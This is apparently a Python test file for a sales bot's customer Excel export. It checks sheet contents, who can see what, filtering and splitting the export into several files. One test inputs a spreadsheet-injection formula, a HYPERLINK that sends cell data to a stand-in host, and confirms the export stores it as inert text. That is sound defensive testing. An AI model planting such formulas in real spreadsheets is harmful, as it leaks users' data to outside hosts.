"""导出: what one sees, as Excel files."""

from __future__ import annotations

import asyncio
from datetime import datetime, time
from functools import partial
from io import BytesIO
from typing import Any

from openpyxl import Workbook, load_workbook
from sqlalchemy import Connection, select

from bot.process.jobs import KINDS
from bot.serving.work import DeskWork
from domain.base.bilingual import bilingual
from notifications.jobs.export_customers import export_customers
from notifications.jobs.working import Runner
from storage.files.store import FileStore
from storage.tables.follow_ups import comments, follow_ups, project_tellings, projects
from storage.tables.jobs import jobs
from tests.cast import Person, Scene, after
from tests.scenarios.protection.test_pool import opens_pool

STAR, LIGHT = "深圳市星河联创电子有限公司", "佛山市启明电机有限公司"


async def with_project(li: Person, chen: Person) -> None:
    """李明 holds 星河; its first report told of a project in 研发."""
    await li.reports(STAR)
    await chen.approves(STAR)
    await li.follows_up("星河", "客户立项空调主控")
    await li.adds_project("变频空调主控", "空调", "BAT32G135", "研发", "样片已寄出", "5万", "打样", "2027-03")
    await li.taps("提交")
    await li.goes_home()


@after(with_project)
async def test_what_one_sees_comes_as_an_excel_file(scene: Scene, li: Person, zhou: Person, wang: Person) -> None:
    await wang.taps("我的客户")
    wang.sees_not("[导出 Excel]")
    await zhou.taps("我的客户")
    await zhou.taps("导出 Excel")
    (book,) = await exported(scene)
    customers, projects, reports, items, *_ = book.worksheets
    assert [cell.value for cell in customers[2]][:4] == [STAR, None, "广东 深圳", "家电 · 空调"]
    assert [cell.value for cell in projects[2]][:5] == [STAR, "变频空调主控", "家电 · 空调", "BAT32G135", "研发"]
    assert [reports["B2"].value, reports["D2"].value, reports["F2"].value] == [
        "GJ-2026-00001",
        "李明",
        "客户立项空调主控",
    ]
    assert items.max_row == 2


@after(with_project)
async def test_an_export_tells_which_report_it_was_whose_manager_how_late_and_what_was_said(
    scene: Scene, li: Person, chen: Person
) -> None:
    approved = scene.now.date()
    await chen.comments("星河", "请补充竞品价格", asks=True)
    await scene.later(days=20)
    await li.goes_home()
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    customers, comments = book["客户"], book["点评"]
    told = values(customers)
    assert [told[each] for each in ("主管经理", "报备编号", "跟进逾期（天）")] == ["陈经理", "BB-2026-00001", 5]
    assert told["报备通过日期"] == datetime.combine(approved, time())
    said = [cell.value for cell in comments[2]]
    assert (said[0], said[3:]) == ("GJ-2026-00001", ["陈经理", "请补充竞品价格", "是", None])
    assert (customers.freeze_panes, customers.auto_filter.ref) == ("A2", "A1:T2")


@after(with_project)
async def test_a_new_holder_reads_neither_the_former_report_nor_what_was_said_to_him(
    scene: Scene, li: Person, wang: Person, chen: Person
) -> None:
    await chen.comments("星河", "请补充竞品价格")
    await li.goes_home()
    await li.taps("我的客户")
    await li.picks("星河")
    await li.taps("放弃保护")
    await li.says("客户已停产")
    await li.taps("放弃保护")
    await scene.later(days=2)
    await opens_pool(wang)
    await wang.taps("1")
    await wang.taps("申请该客户")
    await wang.taps("跳过")
    await wang.taps("提交")
    await chen.approves("BB-2026-00002")
    await wang.goes_home()
    await wang.taps("我的客户")
    await wang.taps("导出 Excel")
    (book,) = await exported(scene)
    assert values(book["客户"])["报备编号"] == "BB-2026-00002"
    assert book["跟进"].max_row == 2
    assert book["点评"].max_row == 1


@after(with_project)
async def test_an_export_holds_what_the_list_was_narrowed_to(scene: Scene, li: Person, chen: Person) -> None:
    await li.reports(LIGHT)
    await chen.approves(LIGHT)
    await li.goes_home()
    await li.says("qiming")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    customers, projects, *_ = book.worksheets
    assert [row[0].value for row in customers.iter_rows(min_row=2)] == [LIGHT]
    assert projects.max_row == 1


@after(with_project)
async def test_what_somebody_wrote_becomes_no_formula_in_an_export(scene: Scene, li: Person) -> None:
    await li.follows_up("星河", '=HYPERLINK("http://evil.example/?"&A1,"点我")')
    await li.finishes()
    await li.taps("提交")
    await li.goes_home()
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    cell = book.worksheets[2]["F3"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "s")


@after(with_project)
async def test_a_large_export_comes_in_several_files_of_whole_customers(scene: Scene, li: Person, chen: Person) -> None:
    await li.reports(LIGHT)
    await chen.approves(LIGHT)
    workers = scene.bot.workers
    assert isinstance(workers, Runner)
    workers._kinds = {**KINDS, "export_customers": partial(export_customers, most=1)}
    await li.goes_home()
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    books = await exported(scene)
    found = [[row[0].value for row in book.worksheets[0].iter_rows(min_row=2)] for book in books]
    assert found == [[STAR], [LIGHT]]
    assert [book.worksheets[2].max_row for book in books] == [2, 1]
    await scene.settled()
    named = [each.content["document"]["file_name"] for each in li.phone.from_bot if "document" in each.content]
    assert named == [f"客户与跟进 {scene.now.date().isoformat()} {part}-2.xlsx" for part in (1, 2)]


def values(sheet: Any) -> dict[object, object]:
    """The first row beneath the head, by column."""
    return {head.value: cell.value for head, cell in zip(sheet[1], sheet[2], strict=True)}


@after(with_project)
async def test_words_in_both_languages_are_exported_in_the_readers(scene: Scene, li: Person, chen: Person) -> None:
    await chen.comments("星河", "请补充竞品价格")
    both = bilingual("样机调通", "The prototype works")

    def tell(work: DeskWork) -> None:
        work.conn.execute(follow_ups.update().values(dynamics=both))
        work.conn.execute(comments.update().values(text=both))
        for table in (projects, project_tellings):
            for number, told in work.conn.execute(select(table.c.id, table.c.told)).all():
                changed = {**told, "progress": both}
                work.conn.execute(table.update().where(table.c.id == number).values(told=changed))

    await scene.lays(tell)
    await li.goes_home()
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    told = [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row if cell]
    assert told.count("样机调通") == 4
    assert not [each for each in told if "\ufff9" in str(each)]


@after(with_project)
async def test_each_sheet_heads_a_note_as_what_it_is(scene: Scene, li: Person) -> None:
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    people, plans = ([cell.value for cell in book[each][1]] for each in ("客户联系人", "项目"))
    assert people == ["客户名称", "姓名", "角色", "电话", "备注", "填写日期"]
    assert "节点说明" in plans


async def exported(scene: Scene) -> list[Workbook]:
    """The files that the export makes, once they are made."""

    def result(conn: Connection) -> list[str]:
        done = conn.execute(select(jobs.c.result).where(jobs.c.state == "done")).scalars()
        return [file["sha256"] for each in done for file in each.get("files", ())]

    store = FileStore(scene.bot.settings.data / "files")
    for _ in range(300):
        if made := await scene.db.read(result):
            return [load_workbook(BytesIO(store.path(each).read_bytes())) for each in made]
        await asyncio.sleep(0.1)
    raise AssertionError("no export was done")
